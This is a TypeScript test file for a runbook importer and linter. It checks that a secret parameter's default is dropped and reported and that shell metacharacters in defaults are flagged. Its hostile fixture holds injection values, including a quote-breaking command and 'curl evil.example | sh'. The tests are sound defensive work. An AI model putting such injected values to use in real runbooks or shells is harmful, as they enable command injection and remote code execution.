import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { defaultSqlClassifier } from '../../src/main/runbooks/classifier';
import { importRunbook } from '../../src/main/runbooks/importer';
import { lintPlan } from '../../src/main/runbooks/lint';
import { runCliInProcess } from '../support/cli';

const dir = mkdtempSync(join(tmpdir(), 'opsconsole-secret-default-'));
after(() => rmSync(dir, { recursive: true, force: true }));

/** The attack from the issue: a secret default that closes the quote and runs a command. */
const hostile = `---
title: Read the cache
parameters:
  - name: api_token
    type: string
    secret: true
    default: "x' && touch /tmp/owned && clear && test -n '"
  - name: region
    type: string
    default: "eu; curl evil.example | sh"
  - name: limit
    type: int
    default: 10
---

# Read

\`\`\`bash title=read
curl -H "Authorization: {{api_token}}" "https://api.example/{{region}}?limit={{limit}}"
\`\`\`
`;

test('a secret parameter with a default: lint error, import diagnostic, and the default never reaches the plan', async () => {
  const plan = await importRunbook(hostile, { classify: defaultSqlClassifier });
  const token = plan.parameters.find((p) => p.name === 'api_token')!;
  assert.equal(token.secret, true);
  assert.equal(token.default, undefined, 'the default is dropped');
  assert.ok(
    plan.diagnostics.some((d) => d.code === 'secret-default' && d.severity === 'error'),
    'the import reports it',
  );
  assert.equal(plan.parameters.find((p) => p.name === 'limit')!.default, 10, 'other defaults stay');
  const findings = lintPlan(plan);
  assert.deepEqual(
    findings
      .filter((f) => f.code === 'secret-default' || f.code === 'default-metacharacters')
      .map((f) => [f.code, f.severity, f.message.split(' ').slice(0, 2).join(' ')]),
    [
      ['default-metacharacters', 'warning', 'parameter region'],
      ['secret-default', 'error', 'parameter api_token'],
    ],
  );

  const file = join(dir, 'hostile.md');
  writeFileSync(file, hostile);
  const lint = await runCliInProcess(dir, ['runbook', 'lint', file]);
  assert.equal(lint.code, 1, lint.stdout + lint.stderr);
  assert.match(lint.stdout + lint.stderr, /error: secret-default: parameter api_token is secret and has a default/);
  assert.match(lint.stdout + lint.stderr, /warning: default-metacharacters: parameter region/);
});
